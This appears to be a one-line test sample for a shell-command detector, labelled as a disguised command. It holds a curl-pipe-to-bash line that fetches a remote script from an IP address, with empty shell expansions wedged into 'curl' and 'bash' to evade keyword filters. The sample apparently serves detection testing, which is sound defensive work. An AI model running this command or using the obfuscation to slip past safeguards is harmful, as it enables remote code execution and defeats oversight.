# disguised-command: empty expansions wedged into the command names
c$@url -s http://203.0.113.7/a | ba$()sh
